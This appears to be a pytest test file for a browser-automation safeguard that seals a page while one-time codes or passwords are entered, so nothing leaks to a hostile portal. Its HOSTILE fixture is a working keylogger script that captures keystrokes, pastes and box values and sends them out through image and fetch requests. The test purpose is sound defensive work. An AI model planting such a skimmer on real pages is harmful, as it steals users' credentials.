"""Nothing that is typed, pasted or filled in at a box for a secret reaches a page while that page could send it on."""

from __future__ import annotations

import subprocess
import sys
import threading
from contextlib import contextmanager
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import TYPE_CHECKING
from urllib.parse import parse_qs, urlsplit

import pytest

from automation.browser import latch
from automation.gate.policy import AtCompanion, Nobody, Policy
from automation.guide.sealing import Seal
from automation.portal.scene import look
from tests.tables import rows

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from playwright.sync_api import Page

    from automation.browser import Pair, Session

CODE = "482913"
# Each key, each change, each paste and what stands in the box every millisecond, sent on by permitted reads; first of
# all listeners, as far as a page can be, and also from an inner frame.
HOSTILE = """<!doctype html><title>Portal</title><body><input BOX id=box><input id=name><script>
  const send = (kind, text) => {
    if (!/[0-9]/.test(text ?? '')) return;
    new Image().src = `/assets/k.png?kind=${kind}&d=${encodeURIComponent(text)}`;
    fetch(`/assets/k.json?kind=${kind}&d=${encodeURIComponent(text)}`).catch(() => {});
  };
  for (const kind of ['keydown', 'keypress', 'keyup', 'beforeinput', 'input', 'textInput', 'paste', 'drop', 'change',
                      'compositionend', 'selectionchange', 'blur'])
    for (const target of [window, document, box])
      target.addEventListener(kind, event => send(kind, event.key || event.data || event.target.value), true);
  setInterval(() => send('value', box.value), 1);
  new MutationObserver(() => send('mutation', box.value)).observe(box, {attributes: true});
</script>"""
BOXES = ["type=password", "autocomplete=one-time-code", "name=emailOtp", "formcontrolname=otp1 maxlength=6"]
HANDS: dict[str, Callable[[Page], None]] = {
    "typed": lambda page: page.keyboard.type(CODE, delay=1),
    "typed at once": lambda page: page.keyboard.type(CODE),
    "put in as a whole": lambda page: page.keyboard.insert_text(CODE),
    "filled in": lambda page: page.locator("#box").fill(CODE),
    "pasted": lambda page: page.keyboard.press("Control+V"),
}


@contextmanager
def hostile(box: str) -> Iterator[tuple[str, list[str]]]:
    """The portal's address, and what it was told."""
    told: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            told.extend(parse_qs(urlsplit(self.path).query).get("d", []))
            body = HOSTILE.replace("BOX", box).encode() if self.path == "/" else b"{}"
            self.send_response(200)
            self.send_header("Content-Type", "text/html" if self.path == "/" else "application/json")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    running = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=partial(running.serve_forever, 0.05), daemon=True).start()
    try:
        yield f"http://127.0.0.1:{running.server_port}", told
    finally:
        running.shutdown()
        running.server_close()


@contextmanager
def at_the_box(pair: Pair, box: str, *, person: bool = True) -> Iterator[tuple[Session, list[str]]]:
    with hostile(box) as (url, told):
        presence = AtCompanion(visible=True) if person else Nobody()
        with pair.window(Policy(portal=(url,), presence=presence)) as session:
            session.context.grant_permissions(["clipboard-read", "clipboard-write"])
            session.page.goto(f"{url}/")
            session.page.evaluate("code => navigator.clipboard.writeText(code)", CODE)
            yield session, told


@contextmanager
def busy_machine() -> Iterator[None]:
    spinning = [subprocess.Popen([sys.executable, "-c", "while True: pass"]) for _ in range(3)]
    try:
        yield
    finally:
        for each in spinning:
            each.kill()
            each.wait()


def digits(told: list[str]) -> list[str]:
    return [each for each in told if any(character.isdigit() for character in each)]


TYPED = [(box, hands) for box in BOXES for hands in HANDS]


@pytest.mark.parametrize("case", rows(TYPED, [each for each in TYPED if "typed" in each or BOXES[0] in each]))
def test_no_digit_reaches_a_hostile_portal_and_the_whole_code_stands_in_the_box(pair, case):
    box, hands = case
    with at_the_box(pair, box) as (session, told):
        session.page.locator("#box").click()
        HANDS[hands](session.page)
        session.page.wait_for_function("code => document.querySelector('#box').value === code", arg=CODE)
        session.page.wait_for_timeout(50)
        assert digits(told) == []
        assert session.gate.mode() == "sealed"


@pytest.mark.parametrize("codes", rows([3, 10], [3]))
def test_no_digit_of_several_codes_at_a_key_a_millisecond_on_a_busy_machine(pair, codes):
    with busy_machine():
        for _ in range(codes):
            with at_the_box(pair, BOXES[0]) as (session, told):
                session.page.keyboard.press("Tab")  # nobody clicked: the first key comes with the focus
                session.page.keyboard.type(CODE, delay=1)
                session.page.wait_for_function("code => document.querySelector('#box').value === code", arg=CODE)
                assert digits(told) == []


def test_the_latch_is_what_keeps_them(pair):
    """The same page, the same keys, and nobody who would have a secret: the page sends what it likes."""
    with at_the_box(pair, BOXES[0], person=False) as (session, told):
        session.page.locator("#box").click()
        with session.page.expect_response(lambda answer: answer.status == 200 and CODE in answer.url):
            session.page.keyboard.type(CODE, delay=1)
        assert digits(told)


def test_without_the_latch_reads_stay_shut(pair, monkeypatch):
    with at_the_box(pair, BOXES[0]) as (session, _told):
        session.gate.shut()
        monkeypatch.setattr(latch, "_ON", "() => typeof window.somethingElse === 'function'")
        assert session.gate.browse() is False
        assert session.gate.mode() == "sealed"
        monkeypatch.undo()
        assert session.gate.browse() is True
        assert session.gate.mode() == "browse"


def test_of_two_boxes_that_are_filled_at_once_neither_loses_its_text(pair):
    """The page that sets a password has two."""
    fill = """() => {
      const box = document.querySelector('#box'), second = box.cloneNode();
      second.id = 'second';
      box.after(second);
      const put = (each, text) => { each.value = text; each.dispatchEvent(new InputEvent('input', {bubbles: true})); };
      put(box, 'first');
      put(second, 'other');
    }"""
    with at_the_box(pair, BOXES[0]) as (session, _told):
        session.page.evaluate(fill)
        whole = "() => document.querySelector('#box').value + document.querySelector('#second').value === 'firstother'"
        session.page.wait_for_function(whole)


@pytest.mark.parametrize("hands", HANDS)
def test_on_the_page_that_sets_a_password_nothing_leaves_between_the_shutting_and_the_first_key(pair, hands):
    """The guide looks at the page the moment that somebody comes to the box, which holds nothing yet."""
    with at_the_box(pair, BOXES[0]) as (session, told):
        page, seal = session.page, Seal(session.gate, session.context)
        page.evaluate("() => document.body.insertAdjacentHTML('beforeend', '<input type=password id=password-new>')")
        assert session.latch is not None
        session.latch.touched = lambda: seal.keep(look(page, 1000), touched=True)
        page.locator("#box").click()
        HANDS[hands](page)
        page.wait_for_function("code => document.querySelector('#box').value === code", arg=CODE)
        page.wait_for_timeout(50)
        assert digits(told) == []
        assert session.gate.mode() == "sealed"


SIX = """() => {
  box.replaceWith(...Array.from({length: 6}, (_, at) => {
    const each = document.createElement('input');
    Object.assign(each, {maxLength: 1, className: 'digit', id: at ? '' : 'box'});
    each.addEventListener('input', () => each.value && each.nextElementSibling?.focus());
    each.addEventListener('paste', event => {
      const text = event.clipboardData.getData('text');
      [...document.querySelectorAll('.digit')].forEach((other, place) => { other.value = text[place] ?? ''; });
      event.preventDefault();
    });
    return each;
  }));
}"""


@pytest.mark.parametrize("hands", ["typed", "typed at once", "pasted"])
def test_a_code_of_one_box_a_digit_goes_on_in_the_next_boxes(pair, hands):
    with at_the_box(pair, BOXES[0]) as (session, told):
        session.page.evaluate(SIX)
        session.page.locator("#box").click()
        HANDS[hands](session.page)
        whole = "code => [...document.querySelectorAll('.digit')].map(each => each.value).join('') === code"
        session.page.wait_for_function(whole, arg=CODE)
        assert digits(told) == []


def test_other_boxes_are_left_alone(pair):
    with at_the_box(pair, BOXES[0]) as (session, told):
        session.page.locator("#name").click()
        with session.page.expect_response(lambda answer: answer.status == 200 and "d=7" in answer.url):
            session.page.keyboard.type("Asha 7", delay=1)
        assert session.page.locator("#name").input_value() == "Asha 7"
        assert session.gate.mode() == "browse"
        assert digits(told)


def test_after_the_box_is_empty_reads_leave_again_and_the_next_code_is_held_anew(pair):
    with at_the_box(pair, BOXES[0]) as (session, told):
        for code in (CODE, "000000"):
            session.page.locator("#box").click()
            session.page.keyboard.type(code, delay=1)
            session.page.wait_for_function("code => document.querySelector('#box').value === code", arg=code)
            with session.shield():
                assert session.gate.mode() == "sealed"
            assert code == CODE or [each for each in told if "0" in each] == []
            session.page.locator("#box").fill("")
            session.page.locator("#name").click()
            with session.shield():
                assert session.gate.mode() == "browse"
